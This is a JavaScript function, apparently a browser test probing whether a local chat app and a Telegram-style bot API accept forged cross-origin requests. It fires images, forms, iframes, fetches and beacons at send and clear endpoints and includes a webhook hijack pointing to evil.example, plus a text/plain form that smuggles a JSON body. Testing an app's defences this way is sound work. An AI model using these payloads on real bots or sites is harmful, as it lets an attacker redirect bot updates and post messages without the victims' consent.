// Everything that a page can send without being asked; the attacker even knows the token.
async ([base, token, person, chat]) => {
  const bot = `${base}/bot${token}`;
  const message = JSON.stringify({ chat, person, text: "взлом" });
  const wait = (node, start) => new Promise((done) => {
    node.onload = node.onerror = () => done();
    setTimeout(done, 2500);
    start(node);
  });
  const image = (src) => wait(new Image(), (node) => { node.src = src; });
  const loaded = (tag, address) => wait(document.createElement(tag), (node) => {
    node[tag === "link" ? "href" : "src"] = address;
    if (tag === "link") node.rel = "stylesheet";
    document.body.append(node);
  });
  const form = (action, enctype, fields) => wait(document.createElement("iframe"), (frame) => {
    frame.name = `f${Math.random()}`;
    const node = Object.assign(document.createElement("form"), { action, enctype, method: "POST", target: frame.name });
    for (const [name, value] of Object.entries(fields)) node.append(Object.assign(document.createElement("input"), { name, value }));
    document.body.append(frame, node);
    node.submit();
  });
  const open = (stream) => new Promise((done) => {
    stream.onopen = () => done("open");
    stream.onerror = () => done("refused");
    setTimeout(() => done("silent"), 2500);
  });
  const text = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: message };
  const multipart = new FormData();
  multipart.append("body", message);
  multipart.append("document", new File(["x"], "x.txt"));
  const attempts = [
    image(`${bot}/setWebhook?url=https://evil.example/`),
    image(`${bot}/sendMessage?chat_id=${person}&text=взлом`),
    image(`${bot}/getUpdates?offset=-1`),
    image(`${base}/api/send?chat=${chat}&person=${person}&text=взлом`),
    loaded("script", `${bot}/deleteWebhook?drop_pending_updates=true`),
    loaded("link", `${bot}/sendMessage?chat_id=${person}&text=взлом`),
    loaded("iframe", `${base}/`),
    form(`${bot}/sendMessage`, "application/x-www-form-urlencoded", { chat_id: person, text: "взлом" }),
    form(`${base}/api/send`, "multipart/form-data", { body: message }),
    form(`${base}/api/send`, "text/plain", { [message.slice(0, -1) + ',"x":"']: '"}' }),
    fetch(`${bot}/sendMessage`, { ...text, body: new URLSearchParams({ chat_id: person, text: "взлом" }) }).catch(() => 0),
    fetch(`${bot}/getMe`, { method: "HEAD", mode: "no-cors" }).catch(() => 0),
    fetch(`${base}/api/send`, text).catch(() => 0),
    fetch(`${base}/api/send`, { method: "POST", mode: "no-cors", body: multipart }).catch(() => 0),
    fetch(`${base}/api/send`, { method: "POST", headers: { "Content-Type": "application/json" }, body: message }).catch(() => 0),
    fetch(`${base}/api/clear`, { ...text, body: "{}" }).catch(() => 0),
  ];
  navigator.sendBeacon(`${base}/api/send`, multipart);
  const read = await fetch(`${base}/api/state`).then((answer) => answer.text(), () => "");
  const streams = await Promise.all([
    open(new EventSource(`${base}/api/events`)),
    open(new WebSocket(`${base.replace("http", "ws")}/api/events`)),
  ]);
  await Promise.all(attempts);
  const framed = [...document.querySelectorAll("iframe")].filter((frame) => { try { return frame.contentDocument?.title === "Playground"; } catch { return false; } });
  return { read, streams, framed: framed.length };
}
